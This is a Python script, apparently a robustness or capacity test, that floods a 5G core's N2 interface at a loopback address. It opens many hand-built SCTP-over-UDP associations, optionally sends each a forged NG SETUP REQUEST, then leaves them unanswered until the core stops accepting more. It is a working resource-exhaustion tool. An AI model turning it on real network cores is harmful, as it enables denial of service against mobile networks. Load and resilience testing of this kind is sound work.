#!/usr/bin/env python3
"""Associations of one host with N2 of a core, in SCTP over UDP (RFC 6951): sctp_flood.py NUMBER [setup]

Each comes up, and over each goes nothing, or NG SETUP REQUEST of a gNB of its own. Nothing is answered after that, not even HEARTBEAT. Ends when all have been up, or when
the core answers no more of them, and prints how many were up.
"""
import socket
import struct
import sys
import time

CORE, HOST, UDP_PORT, N2_PORT, PPID = ("127.0.0.1", 9899), "127.0.2.1", 9899, 38412, 60
# A gNB ID of 24 bits in PLMN 999/70, TAC 1, SST 1: TS 38.413 §9.2.6.1.
NG_SETUP = "0015002e000004001b00080099f90710%06x005240050100676e620066000d00000000010099f907000000080015400140"

TABLE = []
for n in range(256):
    for _ in range(8):
        n = n >> 1 ^ (0x82F63B78 if n & 1 else 0)
    TABLE.append(n)


def crc32c(octets):
    crc = 0xFFFFFFFF
    for octet in octets:
        crc = crc >> 8 ^ TABLE[(crc ^ octet) & 0xFF]
    return crc ^ 0xFFFFFFFF


def packet(port, tag, kind, flags, value):
    chunk = struct.pack("!BBH", kind, flags, 4 + len(value)) + value + bytes(-len(value) % 4)
    head = struct.pack("!HHI", port, N2_PORT, tag)
    return head + struct.pack("<I", crc32c(head + bytes(4) + chunk)) + chunk


def chunks(octets):
    at = 12
    while at + 4 <= len(octets):
        kind, _, length = struct.unpack_from("!BBH", octets, at)
        yield kind, octets[at + 4 : at + length]
        at += max(4, length + -length % 4)


class Host:
    def __init__(self):
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind((HOST, UDP_PORT))
        self.udp.settimeout(2)

    def answer(self, port, kind):
        """The value of the core's chunk of this kind for this port."""
        while True:
            octets = self.udp.recv(65536)
            if struct.unpack_from("!H", octets, 2)[0] == port:
                for got, value in chunks(octets):
                    if got == kind:
                        return value

    def associate(self, port):
        """Sets an association up; returns the core's verification tag."""
        self.udp.sendto(packet(port, 0, 1, 0, struct.pack("!IIHHI", port, 65536, 4, 4, 1)), CORE)
        init_ack = self.answer(port, 2)
        tag, at, cookie = struct.unpack_from("!I", init_ack)[0], 16, b""
        while at + 4 <= len(init_ack):
            kind, length = struct.unpack_from("!HH", init_ack, at)
            if kind == 7:
                cookie = init_ack[at + 4 : at + length]
            at += max(4, length + -length % 4)
        self.udp.sendto(packet(port, tag, 10, 0, cookie), CORE)
        self.answer(port, 11)
        return tag


def main():
    host, number, setup = Host(), int(sys.argv[1]), sys.argv[2:] == ["setup"]
    first = 40000 if setup else 20000
    for n in range(number):
        port = first + n
        try:
            tag = host.associate(port)
        except TimeoutError:
            number = n
            break
        if setup:
            message = bytes.fromhex(NG_SETUP % (0x10000 + n))
            host.udp.sendto(packet(port, tag, 0, 3, struct.pack("!IHHI", 1, 0, 0, PPID) + message), CORE)
            time.sleep(0.02)
    time.sleep(0.2)
    print(f"{number} associations were up")


main()
